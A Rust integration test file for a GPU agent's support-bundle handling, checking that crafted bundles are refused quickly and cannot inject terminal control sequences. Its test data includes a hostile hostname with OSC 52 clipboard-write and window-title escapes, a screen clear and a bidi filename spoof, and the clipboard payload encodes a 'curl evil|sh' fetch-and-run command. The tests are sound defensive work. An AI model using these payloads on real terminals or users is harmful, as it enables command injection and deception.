//! A support bundle is the tenant's word, read on a support engineer's machine (issue 37): a
//! small crafted bundle must not blow up `report` or `doctor --from`, and nothing in it may
//! reach a terminal as a control sequence. Each bundle here is a real one (`doctor --probe quick
//! --bundle` on the 8-GPU fakes), edited the way an attacker would and packed again.

mod common;

use common::*;
use serde_json::Value;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

/// snapshot.json and report.json of one real bundle (`doctor --bundle` on the healthy 8-GPU
/// fixture and the fake NVML), made once for this test binary.
fn real_bundle() -> &'static (Value, Value) {
    static BUNDLE: OnceLock<(Value, Value)> = OnceLock::new();
    BUNDLE.get_or_init(|| {
        let dir = tempfile::tempdir().unwrap();
        let bundle = dir.path().join("bundle.tar.gz");
        std::fs::write(
            dir.path().join("config.toml"),
            format!("[agent]\nstate_dir = {:?}\n", dir.path().join("state")),
        )
        .unwrap();
        let out = Command::new(env!("CARGO_BIN_EXE_phq-agent"))
            .args(["doctor", "--bundle"])
            .arg(&bundle)
            .arg("--config")
            .arg(dir.path().join("config.toml"))
            .arg("--sysroot")
            .arg(repo().join("tests/fixtures/sysroots/hgx-8gpu-healthy"))
            .arg("--nvml-lib")
            .arg(fake_nvml())
            .env("PHQ_FAKE_NVML_SCENARIO", repo().join("examples/scenarios/hgx-8gpu-healthy.json"))
            .output()
            .unwrap();
        assert!(bundle.exists(), "{}", String::from_utf8_lossy(&out.stderr));
        let json = |name: &str| serde_json::from_slice::<Value>(&member(&bundle, name)).unwrap();
        (json("snapshot.json"), json("report.json"))
    })
}

/// The probes of a real run (`doctor --probe quick` on the fakes' 8-GPU HGX, GPUs 0 and 1 kept):
/// what the page's heat maps are drawn from.
fn real_probes() -> Value {
    serde_json::from_slice(&std::fs::read(repo().join("tests/fixtures/bundles/probes-two-gpus.json")).unwrap()).unwrap()
}

fn member(bundle: &Path, name: &str) -> Vec<u8> {
    let mut archive = tar::Archive::new(flate2::read::GzDecoder::new(std::fs::File::open(bundle).unwrap()));
    for entry in archive.entries().unwrap() {
        let mut entry = entry.unwrap();
        if entry.path().unwrap().to_str() == Some(name) {
            let mut buf = Vec::new();
            entry.read_to_end(&mut buf).unwrap();
            return buf;
        }
    }
    panic!("no {name} in {}", bundle.display())
}

/// A bundle of these two members, gzip'd as the agent writes it.
fn pack(dir: &Path, snapshot: &Value, report: &Value) -> PathBuf {
    let path = dir.join("crafted.tar.gz");
    let mut tar = tar::Builder::new(flate2::write::GzEncoder::new(
        std::fs::File::create(&path).unwrap(),
        flate2::Compression::best(),
    ));
    for (name, v) in [("snapshot.json", snapshot), ("report.json", report)] {
        let data = serde_json::to_vec(v).unwrap();
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o600);
        h.set_cksum();
        tar.append_data(&mut h, name, data.as_slice()).unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap();
    path
}

/// The real binary with `args`, killed past `limit` of wall time; its output and the CPU time
/// it used (what the bundle cost it, whatever else the machine is doing).
#[allow(clippy::zombie_processes)] // reaped by wait4 below, which also gives its CPU time
fn bounded(args: &[&str], dir: &Path, limit: Duration) -> (Output, Duration) {
    let started = Instant::now();
    let child = Command::new(env!("CARGO_BIN_EXE_phq-agent"))
        .args(args)
        .current_dir(dir)
        .env("NO_COLOR", "1")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let pid = child.id() as libc::pid_t;
    let (mut stdout, mut stderr) = (child.stdout.unwrap(), child.stderr.unwrap());
    let out = std::thread::spawn(move || {
        let mut b = Vec::new();
        stdout.read_to_end(&mut b).unwrap();
        b
    });
    let err = std::thread::spawn(move || {
        let mut b = Vec::new();
        stderr.read_to_end(&mut b).unwrap();
        b
    });
    let killer = std::thread::spawn(move || {
        while started.elapsed() < limit {
            std::thread::sleep(Duration::from_millis(50));
            // SAFETY: kill with signal 0 only asks whether the process exists.
            if unsafe { libc::kill(pid, 0) } != 0 {
                return;
            }
        }
        // SAFETY: the child is ours and not yet reaped (wait4 below reaps it).
        unsafe { libc::kill(pid, libc::SIGKILL) };
    });
    let mut status = 0;
    // SAFETY: an all-zero rusage is valid for wait4 to fill.
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    // SAFETY: waits for our own child, with valid pointers for the status and the usage.
    let r = unsafe { libc::wait4(pid, &mut status, 0, &mut usage) };
    assert_eq!(r, pid);
    let _ = killer.join();
    assert!(started.elapsed() < limit, "{args:?} ran past {limit:?}");
    let cpu = |t: libc::timeval| Duration::from_secs(t.tv_sec as u64) + Duration::from_micros(t.tv_usec as u64);
    let output = Output {
        status: std::os::unix::process::ExitStatusExt::from_raw(status),
        stdout: out.join().unwrap(),
        stderr: err.join().unwrap(),
    };
    (output, cpu(usage.ru_utime) + cpu(usage.ru_stime))
}

/// Issue 37, finding 3: a bundle of a few tens of KB listing 4,000 GPUs made a page of hundreds
/// of MB (two n × n heat maps). It is refused at once, naming the bound.
#[test]
fn a_bundle_of_4000_gpus_is_refused_not_rendered() {
    let (snapshot, report) = real_bundle().clone();
    let mut report = report;
    report["probes"] = real_probes();
    let probes = report["probes"].as_object_mut().unwrap();
    let first = probes["gpus"][0].clone();
    let many: Vec<Value> = (0..4000)
        .map(|i| {
            let mut g = first.clone();
            g["ordinal"] = i.into();
            g
        })
        .collect();
    probes.insert("gpus".into(), many.into());
    let dir = tempfile::tempdir().unwrap();
    let bundle = pack(dir.path(), &snapshot, &report);
    let size = std::fs::metadata(&bundle).unwrap().len();
    // The agent's own snapshot is most of it: the 4,000 GPUs add a few KB compressed.
    assert!(size < 256 << 10, "a small bundle: {size} bytes");
    let (out, took) =
        bounded(&["report", bundle.to_str().unwrap(), "-o", "page.html"], dir.path(), Duration::from_secs(120));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_ne!(out.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains("4000 GPUs") && stderr.contains("at most 64"), "{stderr}");
    assert!(!dir.path().join("page.html").exists());
    assert!(took < Duration::from_secs(5), "{took:?} of CPU");
    eprintln!("refused in {took:?} of CPU");
}

/// Issue 37, finding 4: `doctor --from` was quadratic in the GPUs a bundle lists (16,000 GPUs
/// in 84 KB took 32 s). A bundle listing more than a node can hold is refused at once; one at
/// the bound is judged.
#[test]
fn doctor_from_a_bundle_of_16000_gpus_is_refused_at_once() {
    let (snapshot, report) = real_bundle().clone();
    let dir = tempfile::tempdir().unwrap();
    let with_gpus = |n: usize| {
        let mut s = snapshot.clone();
        let devices = s["pci"]["value"].as_array_mut().expect("pci devices");
        // PCI class 0x0302xx: a 3D controller, as the H100 and H200 present themselves.
        let is_gpu = |d: &Value| d["class"].as_u64().is_some_and(|c| c >> 8 == 0x0302);
        let gpu = devices.iter().find(|d| is_gpu(d)).unwrap().clone();
        devices.retain(|d| !is_gpu(d));
        for i in 0..n {
            let mut g = gpu.clone();
            g["address"] = format!("{:04x}:{:02x}:{:02x}.0", i >> 13, (i >> 5) & 0xff, i & 0x1f).into();
            devices.push(g);
        }
        s
    };
    let bundle = pack(dir.path(), &with_gpus(16_000), &report);
    let (out, took) = bounded(&["doctor", "--from", bundle.to_str().unwrap()], dir.path(), Duration::from_secs(120));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("16000 GPUs") && stderr.contains("at most 64"), "{stderr}");
    assert!(took < Duration::from_secs(5), "{took:?} of CPU");
    eprintln!("16,000 GPUs refused in {took:?} of CPU");
    std::fs::remove_file(&bundle).unwrap();
    let bundle = pack(dir.path(), &with_gpus(64), &report);
    let (out, took) =
        bounded(&["doctor", "--json", "--from", bundle.to_str().unwrap()], dir.path(), Duration::from_secs(120));
    let r: Value =
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
    assert_eq!(r["gpus"].as_array().unwrap().len(), 64);
    assert!(took < Duration::from_secs(5), "{took:?} of CPU");
    eprintln!("64 GPUs judged in {took:?} of CPU");
}

/// What a terminal would act on: C0 and C1 controls (but newline and tab), DEL, and the bidi
/// controls.
fn controls(text: &str) -> Vec<char> {
    text.chars()
        .filter(|c| {
            (c.is_control() && *c != '\n' && *c != '\t')
                || matches!(c, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        })
        .collect()
}

/// Issue 37, finding 5: a hostname carrying OSC 0 (window title), OSC 52 (clipboard write) and
/// `ESC[2J`, and a finding carrying CSI as a C1 character and a right-to-left override, reach no
/// terminal through `doctor --from` (table and JSON) or `report` without `-o`.
#[test]
fn control_sequences_in_a_bundle_never_reach_stdout() {
    let (mut snapshot, mut report) = real_bundle().clone();
    let hostile = "gpu-node\u{1b}]0;pwned\u{7}\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1b}[2J\u{9b}31mred\u{202e}fdp.exe";
    snapshot["host"]["hostname"] = hostile.into();
    report["host"]["hostname"] = hostile.into();
    report["findings"][0]["summary"] = hostile.into();
    report["findings"][0]["detail"] = format!("line one\n{hostile}").into();
    let dir = tempfile::tempdir().unwrap();
    let bundle = pack(dir.path(), &snapshot, &report);
    let b = bundle.to_str().unwrap();
    for args in [vec!["doctor", "--from", b], vec!["doctor", "--json", "--from", b], vec!["report", b]] {
        let (out, _) = bounded(&args, dir.path(), Duration::from_secs(120));
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(!stdout.is_empty(), "{args:?}: {}", String::from_utf8_lossy(&out.stderr));
        assert_eq!(controls(&stdout), Vec::<char>::new(), "{args:?} printed controls");
        assert!(stdout.contains("gpu-node\u{fffd}]0;pwned"), "{args:?}: the text is shown, made harmless");
    }
}
